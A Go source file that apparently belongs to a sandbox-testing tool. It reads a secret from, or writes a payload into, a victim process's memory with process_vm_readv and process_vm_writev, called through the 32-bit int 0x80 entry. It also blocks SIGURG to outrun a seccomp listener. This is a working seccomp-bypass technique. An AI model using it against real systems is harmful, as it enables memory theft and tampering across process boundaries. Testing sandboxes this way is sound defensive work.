package emulate

import (
	"runtime"
	"unsafe"

	"golang.org/x/sys/unix"
)

// mapLow keeps a mapping within the range of 32-bit addresses.
const mapLow = unix.MAP_32BIT

// Numbers in the kernel's arch/x86/entry/syscalls/syscall_32.tbl.
const (
	sysProcessVMReadvI386  = 347
	sysProcessVMWritevI386 = 348
)

// compatIovec is struct compat_iovec of linux/compat.h.
type compatIovec struct{ base, length uint32 }

func int80(trap, a1, a2, a3, a4, a5, a6 uintptr) uintptr

func processVMReadvI386(s *striker) error {
	return s.int80VM("process_vm_readv (int 0x80)", sysProcessVMReadvI386, s.secret(), s.Victim.Address)
}

func processVMWritevI386(s *striker) error {
	from := s.proof[pageLength/2+2*unsafe.Sizeof(compatIovec{}):][:4] // behind the vectors
	copy(from, s.payload())
	return s.int80VM("process_vm_writev (int 0x80)", sysProcessVMWritevI386, from, s.word())
}

// int80VM moves memory between the victim's address and the shared page.
func (s *striker) int80VM(call string, number uintptr, local []byte, address uint64) error {
	// Both vectors are in the shared page, too: it is below 4 GiB, unlike the stack and the heap.
	vectors := unsafe.Slice((*compatIovec)(unsafe.Pointer(&s.proof[pageLength/2])), 2) //nolint:gosec // within the page, and aligned
	length := uint32(len(local))                                                       //nolint:gosec // a secret's or less
	vectors[0] = compatIovec{address32(&local[0]), length}
	vectors[1] = compatIovec{uint32(address), length} //nolint:gosec // below 4 GiB
	// Go's runtime takes a thread in assembly for one that computes, and sends it SIGURG every 10 ms.
	// Each signal makes the kernel ask a seccomp listener again, so a slow listener never catches up.
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	urgent := unix.Sigset_t{}
	urgent.Val[0] = 1 << (unix.SIGURG - 1)
	if err := unix.PthreadSigmask(unix.SIG_BLOCK, &urgent, nil); err != nil {
		return named("block SIGURG", err)
	}
	s.at(call)
	//nolint:gosec // what a system call takes are addresses
	got := int80(number, uintptr(s.Victim.PID),
		uintptr(unsafe.Pointer(&vectors[0])), 1, uintptr(unsafe.Pointer(&vectors[1])), 1, 0)
	runtime.KeepAlive(vectors)
	if code := int32(got); code < 0 { //nolint:gosec // the i386 entry returns 32 bits
		return named(call, unix.Errno(-code))
	}
	return nil
}

func address32(at *byte) uint32 { return uint32(uintptr(unsafe.Pointer(at))) } //nolint:gosec // mapped low
